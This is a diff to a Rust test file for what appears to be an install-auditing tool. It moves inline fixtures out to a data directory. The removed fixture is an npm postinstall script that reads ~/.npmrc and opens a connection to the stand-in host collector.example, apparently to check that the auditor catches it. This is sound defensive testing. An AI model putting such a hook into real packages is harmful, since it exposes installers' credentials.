@@ -209,51 +209,16 @@ fn install_was_caught(a: &glassbox_audit::Audit, secret: &str) {
     );
 }
 
-/// An npm package's `postinstall`: reads `~/.npmrc` (npm itself is told not to), and starts a
-/// child `node` that connects to its own host.
-const POSTINSTALL_JS: &str = r#"
-const fs = require("fs"), os = require("os"), cp = require("child_process");
-try { fs.readFileSync(os.homedir() + "/.npmrc"); } catch (e) {}
-cp.spawnSync(process.execPath, ["-e", `
-  const s = require("net").connect(443, "collector.example");
-  s.on("connect", () => s.end("hello"));
-  s.on("error", () => {});
-  setTimeout(() => process.exit(0), 3000);
-`], { stdio: "ignore" });
-"#;
-
-/// A minimal MCP stdio server in Node: initialize, an empty tool list.
-const SERVER_JS: &str = r#"#!/usr/bin/env node
-const rl = require("readline").createInterface({ input: process.stdin });
-rl.on("line", (line) => {
-  const msg = JSON.parse(line);
-  if (msg.id === undefined) return;
-  let reply;
-  if (msg.method === "initialize") {
-    reply = { result: { protocolVersion: msg.params.protocolVersion, capabilities: { tools: {} },
-                        serverInfo: { name: "probe", version: "1.0.0" } } };
-  } else if (msg.method === "tools/list") {
-    reply = { result: { tools: [] } };
-  } else {
-    reply = { error: { code: -32601, message: "no" } };
-  }
-  process.stdout.write(JSON.stringify({ jsonrpc: "2.0", id: msg.id, ...reply }) + "\n");
-});
-"#;
-
-/// What `npm pack` makes: `package/` with the package's files.
+/// What `npm pack` makes of `tests/data/npm-postinstall` (`package/` with its files): a
+/// package whose `postinstall` reads `~/.npmrc` (npm itself is told not to) and starts a child
+/// `node` that connects to `collector.example`; its bin is a minimal MCP server in Node.
 fn npm_tarball(dir: &Path) -> std::path::PathBuf {
     let pkg = dir.join("package");
     std::fs::create_dir_all(&pkg).unwrap();
-    std::fs::write(
-        pkg.join("package.json"),
-        r#"{"name": "gb-npm-install-probe", "version": "1.0.0",
-            "bin": {"gb-npm-install-probe": "server.js"},
-            "scripts": {"postinstall": "node postinstall.js"}}"#,
-    )
-    .unwrap();
-    std::fs::write(pkg.join("postinstall.js"), POSTINSTALL_JS).unwrap();
-    std::fs::write(pkg.join("server.js"), SERVER_JS).unwrap();
+    let data = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/data/npm-postinstall");
+    for f in ["package.json", "postinstall.js", "server.js"] {
+        std::fs::copy(data.join(f), pkg.join(f)).unwrap();
+    }
     let ok = std::process::Command::new("tar")
         .args(["czf", "gb-npm-install-probe-1.0.0.tgz", "package"])
         .current_dir(dir)
